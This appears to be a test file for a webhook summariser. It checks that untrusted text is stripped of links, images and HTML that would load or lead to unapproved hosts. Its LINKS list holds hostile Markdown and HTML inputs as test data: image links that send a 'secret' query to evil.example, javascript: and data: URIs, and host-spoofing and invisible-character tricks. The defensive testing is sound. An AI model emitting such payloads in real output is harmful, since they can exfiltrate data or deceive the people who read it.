"""Links of strangers: what a client that shows Markdown makes of their text leads nowhere."""

import json
import re
import unicodedata
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from hookstream.app.errors import SettingsError
from hookstream.app.feeds.digests import build_digest
from hookstream.app.mcp.untrusted import framed, safe_json
from hookstream.app.providers import PROVIDERS
from hookstream.app.settings import Settings, load_settings
from hookstream.app.summaries.links import Hosts, hosts, leads_home, without_links
from hookstream.app.summaries.summariser import Summariser
from hookstream.app.summaries.text import SUSPECT, is_plain, plain_text, shown
from hookstream.app.testing import make_event

EVIL = "https://evil.example/x.png?q=secret"
LINKS = [
    f"![see]({EVIL})",
    f"[![a]({EVIL})]({EVIL})",
    f"[see]({EVIL} 'title')",
    f"[see](<{EVIL}>)",
    f"[see]( {EVIL} )",
    f"![a][b]\n\n[b]: {EVIL}",
    f"![b]\n\n[b]:\n {EVIL}\n 'title'",
    f"[b]\n\n[b]: <{EVIL}>",
    f"> - [b]: {EVIL}\n\n![b]",
    f"<{EVIL}>",
    f'<img src="{EVIL}">',
    f"<a href={EVIL}>see</a>",
    '<img src="//evil.example/x.png">',
    "<img src=/\\evil.example/x>",
    "![a](//evil.example/x.png)",
    "![a](/\\evil.example/x.png)",
    "![a](\\\\evil.example/x.png)",
    f"![a]({' ' * 40}//evil.example/x.png)",
    f"[b]\n\n[b]:{' ' * 40}//evil.example/x.png",
    "![a](https:evil.example/x.png)",
    "![a](https\\://evil.example/x.png)",
    "![a](https&colon;//evil.example/x.png)",
    "![a](&#104;ttps://evil.example/x.png)",
    "[a](javascript:alert(1))",
    "[a](data:text/html,x)",
    "[a](vscode://evil.example/x)",
    "[b]\n\n[b]: //evil.example/x",
    "[b]\n\n[b]: https&#58;//evil.example",
    f"see {EVIL}.",
    f"see({EVIL})",
    f"_{EVIL}_",
    "HTTPS://EVIL.EXAMPLE/x",
    "ftp://evil.example/x",
    "www.evil.example/x",
    "(WWW.evil.example)",
    "https://github.com@evil.example/x",
    "https://github.com\\@evil.example/x",
    "https://github.com.evil.example/x",
    "https://evil.example#github.com",
    "https://github.com,.evil.example/x",
    "https://github.com{.evil.example/x",
    "https://github.com)].evil.example/x",
    "https://evil.example/https://github.com/",
    "http\u200bs://evil.example/x",
    "![a]\u2060(https://evil\u00ad.example/x.png)",
    "![a](https://github.com/evil/evil/raw/x.png)",
]
#: What makes a link of an address without more (GFM, linkify-it).
BARE = re.compile(r"(?i)(https?|ftp)://|(?<![\w.:/@-])www\.\w")
RENDERER = MarkdownIt("commonmark", {"html": True})


def leads(text: str) -> list[str]:
    """Where what a client shows of it leads, at once or by a click, but to hosts that may be."""
    found = [where for where in _targets(text) if not _is_allowed(where)]
    bare = [text[at.start() :].split()[0] for at in BARE.finditer(text)]
    return found + [where for where in bare if not _is_allowed(where)]


def _targets(text: str) -> Iterator[str]:
    for token in RENDERER.parse(text):
        for inner in (token, *(token.children or ())):
            if inner.type == "image":
                yield f"image {inner.attrs['src']}"
            elif inner.type == "link_open":
                where = str(inner.attrs["href"])
                if re.match(r"(?i)[a-z][a-z0-9+.-]*:|[/\\]{2}|/\\", where):
                    yield where
            elif inner.type.startswith("html"):
                yield from re.findall(r"(?i)(?:src|href)\s*=\s*[\"']?([^\s\"'>]+)", inner.content)


def _is_allowed(where: str) -> bool:
    # providers' own addresses, some of which stand in their templates
    host = where.removeprefix("https://").lower()
    host = re.split(r"[\s/?#]", host, maxsplit=1)[0].rstrip("()[]<>\"'`,;‹›❴❵|^")
    return any(
        host == name or (name.startswith("*.") and host.endswith(name[1:])) for name in PROVIDED
    )


PROVIDED = {host for row in PROVIDERS.values() for host in row.hosts}


def test_what_is_tried_does_lead_somewhere() -> None:
    led = [text for text in LINKS if leads(text)]
    hidden = [text for text in LINKS if not text.isascii()]
    # this renderer leaves out what the last two are
    scripts = {"[a](javascript:alert(1))", "[a](data:text/html,x)"}
    assert set(LINKS) - set(led) <= {*hidden, *scripts}


@pytest.mark.parametrize("text", LINKS)
def test_nothing_leads_to_strangers(text: str) -> None:
    line = plain_text(text, 500)
    assert leads(line) == []
    assert not re.search(r"!\[\w*\][\[ ]*\(|\]\(", line)
    assert leads("\n\n".join((line, f"[b]: {EVIL}"))[: len(line)]) == []
    # who goes on reads it all the same
    words = re.sub(r"[^a-z]", "", unicodedata.normalize("NFKC", text).lower())
    if text.isascii():
        kept = re.sub(r"[^a-z]", "", line.lower().replace("xx", "tt").replace("fxp", "ftp"))
        assert kept.replace("xx", "tt") == words
    several = without_links(text.replace("\u200b", "").replace("\u2060", "").replace("\u00ad", ""))
    # a tag is for safe_json to break
    assert leads(several.replace("<", "\\u003c")) == []


@pytest.mark.parametrize("text", LINKS)
def test_mcp_results_lead_nowhere(text: str) -> None:
    value = {"body": text, text: [text], "keys": [text]}
    result = framed(value)
    inner = result.partition("\n")[2].rpartition("\n")[0]
    assert leads(inner) == []
    read = json.loads(inner)
    for one in (read["body"], *read["keys"], *(name for name in read)):
        assert leads(one.replace("<", "‹")) == []


def test_fields_that_are_addresses_stay_so_over_mcp() -> None:
    ci = "https://ci.example.com/build/5?a=b"
    for name in ("url", "html_url", "href", "targetUrl", "self", "clone_urls"):
        assert json.loads(safe_json({name: ci})) == {name: ci}
        assert json.loads(safe_json({name: [ci]})) == {name: [ci]}
        for other in (f"{ci} or", f"![x]({ci})", f"<{ci}>"):
            assert "hxxps" in safe_json({name: other})
    assert "hxxps" in safe_json({"title": ci})


@given(
    st.text(alphabet="[]()<>!:/\\. \n&;#wWhHtTpPsSxX@aé\u200b\u2028'\"", max_size=40)
    | st.lists(st.sampled_from(LINKS), max_size=2).map("".join)
)
@example("https://a.:x:y")
@example("https://a.(//b.c")
@example("\\www.evil.example")
@example(f"see {EVIL}.www.evil.example/x")
@example("![b](WWW.evil.example)")
@example("![b](x.png)")
@example("![a[b[c]]](x.png) ![a][b]")
def test_text_stays_harmless_and_the_same_when_it_is_read_again(text: str) -> None:
    once = plain_text(text, 300)
    assert plain_text(once, 300) == once
    assert leads(once) == []
    several = without_links(text)
    assert without_links(several) == several


HOMES = ["https://github.com/a", "https://acme.slack.com/x?y", "https://github.com.evil.example/"]


@given(
    st.lists(
        st.sampled_from([*HOMES, *LINKS]) | st.text(alphabet="[]()<:/\\. wphtsé!a1'_-", max_size=8),
        max_size=4,
    ).map("".join)
)
def test_what_is_passed_at_once_needed_no_mending(text: str) -> None:
    if leads_home(text):
        assert without_links(text) == text
    if is_plain(text):
        assert not SUSPECT.search(text)


def test_what_is_no_link_is_left_alone() -> None:
    for text in (
        "a[i](x) b[0]: c",
        "vec![1, 2] [ok] (done): see #5",
        "[see](docs/a.md) [top](#top)",
        "// a comment: x // y",
        "C:\\\\temp [x]: string",
        "at 10:30, 1://2",
        "see https://github.com/acme/app/pull/5, and https://acme.slack.com/x",
    ):
        assert plain_text(text, 500) == without_links(text) == text


def test_hosts_are_matched_whole() -> None:
    allowed = Hosts()
    allowed.allow(["git.acme.com", "*.ci.acme.com"])
    for place in (
        "git.acme.com",
        "GIT.acme.com:8443",
        "a.b.ci.acme.com",
        "github.com",
        "github.com.",
    ):
        assert place in allowed
    for place in (
        *("acme.com", "ci.acme.com", "xgit.acme.com", "git.acme.com.evil.example", "github.com:x"),
        *(
            "github.com@evil.example",
            "user:1@github.com",
            "",
            "evil-github.com",
            "github.com:80:80",
        ),
    ):
        assert place not in allowed


def test_an_operator_may_allow_hosts() -> None:
    settings = load_settings({"HOOKSTREAM_LINK_HOSTS": " Git.acme.com, *.ci.acme.com,"})
    assert settings.link_host_names == ("git.acme.com", "*.ci.acme.com")
    assert Settings().link_host_names == ()  # type: ignore[call-arg]
    for bad in ("https://git.acme.com", "git.acme.com/x", "*", "a b"):
        with pytest.raises(SettingsError, match="LINK_HOSTS"):
            load_settings({"HOOKSTREAM_LINK_HOSTS": bad})
    text = "built: https://git.acme.com/5 [x](https://git.acme.com)"
    try:
        hosts.allow(settings.link_host_names)
        assert plain_text(text, 200) == "built: https://git.acme.com/5 [x] (https://git.acme.com)"
    finally:
        hosts.allow(())
    assert "hxxps://git[.]acme[.]com/5" in plain_text(text, 200)


def test_the_address_of_a_thing_is_a_fact() -> None:
    summary = Summariser().summarise(make_event({"html_url": "https://ci.example.com/5", "id": 5}))
    assert summary.facts["url"] == "https://ci.example.com/5"
    assert "hxxps" in Summariser().summarise(make_event({"url": "https://a.b/ c"})).facts["url"]


#: What differs in nothing that people see.
TWINS = [
    ("a", "a\u200b"),
    ("a b", "a\u00a0b"),
    ("a b", "a\u2028b"),
    ("a", "a\u3164"),
    ("a", "a\ufe0f"),
    ("\u00e9", "e\u0301"),
    ("a\u200b", "a\\u{200b}"),
    ("a\u202eb", "a\u202db"),
    ("o" + "\u0300" * 4, "o" + "\u0300" * 5),
]


@pytest.mark.parametrize(("one", "other"), TWINS)
def test_names_that_differ_in_what_is_not_seen_stay_apart(one: str, other: str) -> None:
    assert shown(one) != shown(other)
    for name in (shown(one), shown(other)):
        assert all(char.isprintable() for char in name)
        assert shown(name) == name or "\\" in name
    result = json.loads(safe_json({one: 1, other: 2, "keys": [one, other]}))
    assert sorted(result.values(), key=str)[:2] == [1, 2]
    assert len(set(result["keys"])) == 2


@given(st.text(max_size=10), st.text(max_size=10))
def test_no_two_names_are_shown_as_one(one: str, other: str) -> None:
    assert (shown(one) == shown(other)) == (one == other)


def test_things_in_a_digest_stay_apart() -> None:
    def update(seq: int, key: str) -> dict[str, Any]:
        return {
            "seq": seq, "keys": [key], "priority": "normal", "event_type": "t", "tool_id": "x",
            "summary": "s", "received_at": 0, "event_id": str(seq),
        }  # fmt: skip

    keys = ("github:a/b#1", "github:a/b\u3164#1")
    digest = build_digest([update(n, keys[n % 2]) for n in range(6)], 400)
    lines = [line for line in digest.text.splitlines() if "github:" in line]
    assert len(lines) == 2
    assert sum("\\u❴3164❵" in line for line in lines) == 1


@pytest.mark.parametrize(
    "odd", ["\u2028", "\u2029", "\u0085", "\u00a0", "\u3000", "\u202f", "\x1f"]
)
def test_odd_spaces_are_plain_ones(odd: str) -> None:
    text = f"one{odd}two"
    assert plain_text(text, 50) == "one two"
    payload = {"title": text, "sender": {"login": text}}
    summary = Summariser().summarise(make_event(payload))
    assert odd not in summary.text
    assert odd not in json.dumps(summary.facts, ensure_ascii=False)
    assert odd not in safe_json(payload)
